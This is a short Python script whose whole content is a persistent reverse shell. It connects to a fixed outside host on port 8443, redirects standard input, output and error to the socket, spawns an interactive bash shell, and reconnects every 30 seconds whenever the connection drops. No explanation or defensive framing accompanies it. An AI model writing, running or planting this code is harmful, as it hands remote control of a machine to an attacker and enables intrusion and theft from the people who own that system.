import os
import pty
import socket
import time

HOST, PORT = "203.0.113.90", 8443


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((HOST, PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")


while True:
    try:
        connect()
    except OSError:
        time.sleep(30)
